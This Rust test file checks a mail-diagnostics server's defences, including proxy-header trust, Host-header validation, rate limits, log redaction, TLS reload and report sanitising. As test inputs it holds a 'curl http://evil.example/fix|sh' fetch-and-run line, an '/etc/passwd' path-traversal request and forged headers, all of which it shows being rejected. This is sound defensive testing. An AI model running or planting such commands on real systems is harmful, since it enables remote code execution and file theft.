//! What an operator needs, and what whoever wants to get round the limits tries.

use crate::cloud::aws::serve;
use crate::fleet::{fleet_of, site, slow_vantage};
use crate::server::{PROGRAM, Server, TOKEN, client};
use noanswer::api::State;
use noanswer::fetch::DohFetch;
use noanswer_tests::own_network;
use serde_json::Value;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::process::{Command, Stdio};
use std::time::Duration;

/// What a line of the log says of a trace.
const TRACED: &str = "trace_id=0af7651916cd43dd8448eb211c80319c";

/// A server that can look nothing up: what is asked of it costs nothing.
const ALONE: [&str; 2] = ["--doh", "http://127.0.0.1:9/"];

async fn get(url: &str, path: &str, headers: &[(&str, &str)]) -> reqwest::Response {
    let mut call = client().get(format!("{url}{path}"));
    for (name, value) in headers {
        call = call.header(*name, *value);
    }
    call.send().await.expect("it answers")
}

async fn json(answer: reqwest::Response) -> Value {
    serde_json::from_slice(&answer.bytes().await.expect("whole")).expect("JSON")
}

/// The statuses of lookups, each of which says that it comes from another address.
async fn lookups(server: &Server, count: usize) -> Vec<u16> {
    let mut statuses = Vec::new();
    for n in 0..count {
        let from = format!("198.51.100.{n}");
        let answer = get(&server.url, "/v1/mx/a.test", &[("x-forwarded-for", &from)]).await;
        statuses.push(answer.status().as_u16());
    }
    statuses
}

#[tokio::test]
async fn clients_behind_a_trusted_proxy_are_told_apart_and_nobody_else_is_believed() {
    let trusting = Server::start(&[&ALONE[..], &["--trusted-proxy", "127.0.0.1/32"]].concat());
    assert!(lookups(&trusting, 35).await.iter().all(|status| *status == 200));
    let forged = [("x-forwarded-for", "198.51.100.7, 203.0.113.5")];
    let mut statuses = Vec::new();
    for _ in 0..35 {
        statuses.push(get(&trusting.url, "/v1/mx/a.test", &forged).await.status().as_u16());
    }
    assert!(statuses.contains(&429), "the right-most address counts, not what a client wrote before it");

    let other = Server::start(&ALONE);
    assert!(lookups(&other, 35).await.contains(&429), "without a proxy that is trusted all are one client");
}

#[tokio::test]
async fn a_page_whose_name_was_bound_to_loopback_gets_no_answer() {
    let server = Server::start(&[&ALONE[..], &["--allow-host", "noanswer.example"]].concat());
    for (host, expected) in [("evil.example", 421), ("noanswer.example", 200), ("localhost:4410", 200)] {
        let answer = get(&server.url, "/v1/mx/a.test", &[("host", host)]).await;
        assert_eq!(answer.status(), expected, "{host}");
        if expected == 421 {
            assert_eq!(answer.headers()["content-type"], "application/problem+json");
        }
    }
    assert_eq!(get(&server.url, "/healthz", &[("host", "evil.example")]).await.status(), 200);
}

/// The status of the answer to a request in these bytes.
fn status_of(server: &Server, request: &str) -> u16 {
    let at = server.url.strip_prefix("http://").expect("a URL");
    let mut stream = TcpStream::connect(at).expect("it listens");
    stream.write_all(request.as_bytes()).expect("it reads");
    let mut answer = [0; 12];
    stream.read_exact(&mut answer).expect("an answer");
    std::str::from_utf8(&answer[9..]).ok().and_then(|status| status.parse().ok()).expect("a status")
}

#[test]
fn a_request_is_for_one_host_and_a_target_in_absolute_form_names_it() {
    let server = Server::start(&ALONE);
    for (line, hosts, expected) in [
        ("GET /v1/mx/a.test HTTP/1.1", &["localhost"][..], 200),
        ("GET /v1/mx/a.test HTTP/1.1", &[], 400),
        ("GET /v1/mx/a.test HTTP/1.0", &[], 200),
        ("GET /v1/mx/a.test HTTP/1.1", &["localhost", "evil.example"], 400),
        ("GET /v1/mx/a.test HTTP/1.1", &["localhost", "localhost"], 400),
        ("GET /healthz HTTP/1.1", &["localhost", "evil.example"], 400),
        ("GET http://evil.example/v1/mx/a.test HTTP/1.1", &["localhost"], 421),
        ("GET http://localhost/v1/mx/a.test HTTP/1.1", &["evil.example"], 200),
    ] {
        let hosts: String = hosts.iter().map(|host| format!("host: {host}\r\n")).collect();
        let asked = format!("{line}\r\n{hosts}connection: close\r\n\r\n");
        assert_eq!(status_of(&server, &asked), expected, "{asked}");
    }
}

#[tokio::test]
async fn an_answer_says_what_is_left_and_carries_its_id() {
    let server = Server::start(&ALONE);
    let answer = get(&server.url, "/v1/mx/a.test", &[("x-request-id", "mine-1")]).await;
    assert_eq!(answer.headers()["x-request-id"], "mine-1");
    assert_eq!(answer.headers()["ratelimit-policy"], "\"checks\";q=10;w=60, \"lookups\";q=30;w=60");
    assert_eq!(answer.headers()["ratelimit"], "\"lookups\";r=29;t=60");
    let hostile = get(&server.url, "/v1/mx/a.test", &[("x-request-id", "a b\"")]).await;
    assert_ne!(hostile.headers()["x-request-id"], "a b\"");
    for _ in 0..35 {
        let answer = get(&server.url, "/v1/mx/a.test", &[]).await;
        if answer.status() == 429 {
            let left = answer.headers()["ratelimit"].to_str().expect("a word");
            let again = answer.headers()["retry-after"].to_str().expect("seconds");
            assert_eq!(left, format!("\"lookups\";r=0;t={again}"));
            return;
        }
    }
    panic!("30 a minute and no more");
}

#[tokio::test]
async fn it_says_which_version_it_is_and_whether_its_vantages_see() {
    let lab = Server::lab();
    let version = json(get(&lab.url, "/version", &[]).await).await;
    assert_eq!(
        (&version["name"], &version["version"]),
        (&"noanswer".into(), &env!("CARGO_PKG_VERSION").into())
    );
    let ready = get(&lab.url, "/readyz", &[]).await;
    assert_eq!(ready.status(), 200);
    let ready = json(ready).await;
    assert_eq!((&ready["ready"], &ready["seeing"]), (&true.into(), &3.into()), "{ready}");
    assert!(ready["age_s"].as_i64().is_some_and(|age| (0..=60).contains(&age)), "{ready}");
    let blind = Server::start(&ALONE);
    let answer = get(&blind.url, "/readyz", &[]).await;
    assert_eq!(answer.status(), 503, "it sees nothing: it lives, and cannot work");
    assert_eq!(json(answer).await["ready"], false);
    assert_eq!(get(&blind.url, "/healthz", &[]).await.status(), 200);
}

#[tokio::test]
async fn the_access_log_says_what_was_asked_and_neither_text_nor_client() {
    for form in ["json", "logfmt"] {
        own_network::enter().expect("a network of one's own");
        let mut process = Command::new(PROGRAM)
            .args(["serve", "--listen", "127.0.0.1:0", "--access-log", form])
            .args(["--doh", "http://127.0.0.1:9/", "--trusted-proxy", "127.0.0.1/32"])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("it starts");
        let mut line = String::new();
        BufReader::new(process.stdout.take().expect("piped")).read_line(&mut line).expect("a line");
        let url = line.trim().strip_prefix("listening on ").expect("where it listens").to_owned();
        let call = client().post(format!("{url}/v1/explain")).header("content-type", "application/json");
        let call = call.header("x-forwarded-for", "203.0.113.77").header("x-request-id", "r-1");
        let call = call.header("traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01");
        call.body(r#"{"text":"441 secret words"}"#).send().await.expect("it answers");
        let mut said = String::new();
        BufReader::new(process.stderr.take().expect("piped")).read_line(&mut said).expect("a line");
        process.kill().and_then(|()| process.wait()).expect("it ends");
        assert!(!said.contains("secret") && !said.contains("203.0.113.77"), "{said}");
        if form == "json" {
            let said: Value = serde_json::from_str(&said).expect("JSON");
            assert_eq!((&said["client"], &said["route"]), (&"203.0.113.0/24".into(), &"/v1/explain".into()));
            assert_eq!((&said["request_id"], &said["status"]), (&"r-1".into(), &200.into()));
            assert_eq!(said["trace_id"], "0af7651916cd43dd8448eb211c80319c");
        } else {
            for pair in ["client=203.0.113.0/24", "route=/v1/explain", "request_id=r-1", "status=200", TRACED]
            {
                assert!(said.split_whitespace().any(|one| one == pair), "{pair}: {said}");
            }
        }
    }
}

#[tokio::test]
async fn a_client_has_a_few_streams_at_a_time() {
    let lab = Server::lab();
    let (vantage, _) = slow_vantage(Duration::from_secs(3)).await;
    let state =
        State::new(site(&lab), fleet_of(&[("one", &vantage)]), DohFetch::new(None).expect("built-in roots"));
    let url = format!("http://{}", serve(state).await);
    let stream = || {
        let call = client().post(format!("{url}/v1/check")).header("content-type", "application/json");
        call.header("accept", "text/event-stream").body(r#"{"domain":"healthy.test"}"#).send()
    };
    let mut held = Vec::new();
    for _ in 0..4 {
        held.push(stream().await.expect("it answers"));
    }
    assert!(held.iter().all(|answer| answer.status() == 200));
    let refused = stream().await.expect("it answers");
    assert_eq!(refused.status(), 429);
    assert!(refused.headers().contains_key("retry-after"));
    // A place is free as soon as its reader goes away.
    drop(held);
    for _ in 0..100 {
        if stream().await.expect("it answers").status() == 200 {
            return;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("the places were not given back");
}

/// A certificate of 127.0.0.1 and its key, as two files.
fn certificate(folder: &std::path::Path) -> (String, String) {
    let made = rcgen::generate_simple_self_signed(["127.0.0.1".to_owned()]).expect("a certificate");
    let file = |name: &str, text: String| {
        let path = folder.join(name);
        std::fs::write(&path, text).expect("a file");
        path.to_str().expect("a path").to_owned()
    };
    (file("cert.pem", made.cert.pem()), file("key.pem", made.signing_key.serialize_pem()))
}

#[tokio::test]
async fn it_speaks_https_and_takes_another_certificate_without_a_restart() {
    let folder = std::env::temp_dir().join(format!("noanswer-tls-{}", std::process::id()));
    std::fs::create_dir_all(&folder).expect("a folder");
    let (cert, key) = certificate(&folder);
    let server = Server::start(&[&ALONE[..], &["--tls-cert", &cert, "--tls-key", &key]].concat());
    assert!(server.url.starts_with("https://"), "{}", server.url);
    let healthy = async |trusting: &str| {
        let client = DohFetch::new(Some(trusting.as_ref())).expect("a CA").client().clone();
        client.get(format!("{}/healthz", server.url)).send().await
    };
    assert_eq!(healthy(&cert).await.expect("it answers").status(), 200);
    let old = folder.join("old.pem");
    std::fs::copy(&cert, &old).expect("kept");
    certificate(&folder);
    assert!(healthy(&cert).await.is_err(), "it still has the old one");
    server.hang_up();
    for _ in 0..200 {
        if healthy(&cert).await.is_ok() {
            assert!(healthy(old.to_str().expect("a path")).await.is_err(), "and the old one no more");
            // What cannot be used changes nothing.
            std::fs::write(&cert, "no certificate").expect("a file");
            server.hang_up();
            tokio::time::sleep(Duration::from_millis(200)).await;
            assert_eq!(get_plain_is_refused(&server).await, None);
            std::fs::remove_dir_all(&folder).expect("it was there");
            return;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("the new certificate was not taken");
}

/// What a client hears that does not speak TLS: no HTTP.
async fn get_plain_is_refused(server: &Server) -> Option<u16> {
    let url = server.url.replace("https://", "http://");
    client().get(format!("{url}/healthz")).send().await.ok().map(|answer| answer.status().as_u16())
}

#[tokio::test]
async fn a_vantage_answers_whether_it_sees_and_keeps_its_token() {
    let vantage = Server::start(&[&ALONE[..], &["--vantage", "--token-env", "TOKEN"]].concat());
    assert_eq!(get(&vantage.url, "/readyz", &[]).await.status(), 503);
    assert_eq!(get(&vantage.url, "/version", &[]).await.status(), 200);
    let call =
        client().post(format!("{}/v1/controls", vantage.url)).header("content-type", "application/json");
    assert_eq!(call.bearer_auth(TOKEN).body("{}").send().await.expect("it answers").status(), 200);
}

#[tokio::test]
async fn a_report_is_kept_without_the_words_of_whoever_sent_it_until_it_is_deleted() {
    let lab = Server::lab();
    let post = |path: &str, body: String| {
        client()
            .post(format!("{}{path}", lab.url))
            .header("content-type", "application/json")
            .body(body)
            .send()
    };
    let check = r#"{"domain":"null-mx.test","symptom":"441 4.4.1 to secret@null-mx.test"}"#;
    let mut report = json(post("/v1/check", check.to_owned()).await.expect("it answers")).await;
    let headline = report["verdict"]["headline"].clone();
    report["verdict"]["headline"] = "Call +1-555-SCAM now".into();
    report["verdict"]["notes"] = serde_json::json!(["Run: curl http://evil.example/fix|sh"]);
    let kept = post("/v1/reports", report.to_string()).await.expect("it answers");
    assert_eq!(kept.status(), 201);
    let place = kept.headers()["location"].to_str().expect("a path").to_owned();
    let id = json(kept).await["id"].as_str().expect("an id").to_owned();
    assert!(id.len() == 22 && place == format!("/v1/reports/{id}"), "{place}");
    let got = get(&lab.url, &place, &[]).await;
    let tag = got.headers()["etag"].to_str().expect("a tag").to_owned();
    let text = got.text().await.expect("whole");
    assert!(!text.contains("SCAM") && !text.contains("evil.example") && !text.contains("secret"), "{text}");
    let got: Value = serde_json::from_str(&text).expect("a report");
    assert_eq!(got["verdict"]["headline"], headline, "it is judged here");
    assert_eq!(get(&lab.url, &place, &[("if-none-match", &tag)]).await.status(), 304);
    for strange in
        ["/v1/reports/AAAAAAAAAAAAAAAAAAAAAA", "/v1/reports/..%2f..%2fetc%2fpasswd", "/v1/reports/x"]
    {
        assert_eq!(get(&lab.url, strange, &[]).await.status(), 404, "{strange}");
    }
    let delete =
        async || client().delete(format!("{}{place}", lab.url)).send().await.expect("it answers").status();
    assert_eq!(delete().await, 204);
    assert_eq!(delete().await, 404);
    assert_eq!(get(&lab.url, &place, &[]).await.status(), 404);

    let without = Server::start(&[&ALONE[..], &["--keep-reports", "none"]].concat());
    let call =
        client().post(format!("{}/v1/reports", without.url)).header("content-type", "application/json");
    assert_eq!(
        call.body(report.to_string()).send().await.expect("it answers").status(),
        404,
        "its operator wants none"
    );
}

#[tokio::test]
async fn a_case_takes_a_servers_lines_once_and_gives_them_once() {
    let lab = Server::lab();
    let open =
        client().post(format!("{}/v1/cases", lab.url)).header("content-type", "application/json").body("{}");
    let opened = open.send().await.expect("it answers");
    assert_eq!(opened.status(), 201);
    let place = opened.headers()["location"].to_str().expect("a path").to_owned();
    assert_eq!(get(&lab.url, &place, &[]).await.status(), 204, "nothing has come yet");
    let fill = async |text: String| {
        client().put(format!("{}{place}", lab.url)).body(text).send().await.expect("it answers").status()
    };
    assert_eq!(fill("root:x:0:0:secret\n".to_owned()).await, 422);
    assert_eq!(fill("x".repeat(17 << 10)).await, 413);
    let line = "noanswer-witness target mx.healthy.test 192.0.2.10 21 timed out";
    assert_eq!(fill(format!("root:x:0:0:secret\n{line}\n")).await, 204);
    assert_eq!(fill(format!("{line}\n")).await, 409);
    let lines = get(&lab.url, &place, &[]).await;
    assert_eq!(lines.status(), 200);
    assert_eq!(lines.text().await.expect("whole"), format!("{line}\n"));
    assert_eq!(get(&lab.url, &place, &[]).await.status(), 404, "once");
    assert_eq!(get(&lab.url, "/v1/cases/AAAAAAAAAAAAAAAAAAAAAA", &[]).await.status(), 404);
}

#[test]
fn settings_are_tried_without_serving() {
    let folder = std::env::temp_dir().join(format!("noanswer-settings-{}", std::process::id()));
    std::fs::create_dir_all(&folder).expect("a folder");
    let file = folder.join("serve.toml");
    let check = |text: &str| {
        std::fs::write(&file, text).expect("a file");
        let mut command = Command::new(PROGRAM);
        command.args(["config", "check"]).arg(&file).env("NOANSWER_SERVE_ACCESS_LOG", "json");
        let output = command.output().expect("it starts");
        let said =
            String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr);
        (output.status.code(), said)
    };
    let (code, said) = check("trusted-proxy = ['127.0.0.1/32']\naccess-log = 'logfmt'\n");
    assert_eq!(code, Some(0), "{said}");
    assert!(said.contains("access-log = json  (NOANSWER_SERVE_ACCESS_LOG)"), "{said}");
    assert!(said.contains("trusted-proxy = 127.0.0.1/32"), "{said}");
    for (text, words) in [
        ("trusted-proxi = 'x'", "trusted-proxi"),
        ("trusted-proxy = ['x']", "trusted-proxy"),
        ("opt-out = '/nowhere'", "/nowhere"),
        ("vantage = true", "token-env"),
    ] {
        let (code, said) = check(text);
        assert_eq!(code, Some(64), "{text}: {said}");
        assert!(said.contains(words), "{text}: {said}");
    }
    std::fs::remove_dir_all(folder).expect("it was there");
}

#[tokio::test]
async fn what_can_be_kept_has_an_entity_tag_and_what_is_of_this_moment_is_not_kept() {
    let lab = Server::lab();
    for path in ["/", "/probe", "/codes", "/codes/441", "/style.css", "/openapi.json", "/version", "/v1/lab"]
    {
        let plain = get(&lab.url, path, &[]).await;
        assert_eq!(plain.status(), 200, "{path}");
        let strong = plain.headers()["etag"].to_str().expect("a tag").to_owned();
        assert!(strong.starts_with('"'), "{path}: {strong}");
        for takes in ["br", "gzip", "zstd"] {
            let packed = get(&lab.url, path, &[("accept-encoding", takes)]).await;
            let tag = packed.headers()["etag"].to_str().expect("a tag").to_owned();
            let varies = packed.headers().get("vary").cloned();
            assert!(varies.is_some() || matches!(path, "/version" | "/v1/lab"), "{path} {takes}");
            let is_packed = packed.headers().contains_key("content-encoding");
            let expected = match path {
                _ if !is_packed => strong.clone(),
                // A file is the same bytes each time, in each coding others.
                "/style.css" => format!("{}-{takes}\"", strong.trim_end_matches('"')),
                // Made by whichever compressor is built in: the tag says no more than that they mean the same.
                _ => format!("W/{strong}"),
            };
            assert_eq!(tag, expected, "{path} {takes}");
            let again = get(&lab.url, path, &[("if-none-match", &tag), ("accept-encoding", takes)]).await;
            assert_eq!(again.status(), 304, "{path} {takes}");
            assert_eq!(
                again.headers()["etag"],
                tag.as_str(),
                "{path} {takes}: as the whole answer would say"
            );
            assert_eq!(again.headers().get("vary"), varies.as_ref(), "{path} {takes}");
            assert!(again.bytes().await.expect("whole").is_empty(), "{path}");
        }
        assert_eq!(get(&lab.url, path, &[("if-none-match", "\"other\"")]).await.status(), 200, "{path}");
    }
    for path in ["/v1/mx/healthy.test", "/v1/vantages"] {
        let answer = get(&lab.url, path, &[]).await;
        assert!(answer.headers().contains_key("etag"), "{path}");
        assert_eq!(answer.headers()["cache-control"], "private, no-cache", "{path}");
    }
    for path in ["/healthz", "/readyz", "/metrics", "/v1/mx/no%20domain", "/nowhere"] {
        let answer = get(&lab.url, path, &[]).await;
        assert_eq!(answer.headers().get("etag"), None, "{path}");
        assert_eq!(answer.headers()["cache-control"], "no-store", "{path}");
    }
}
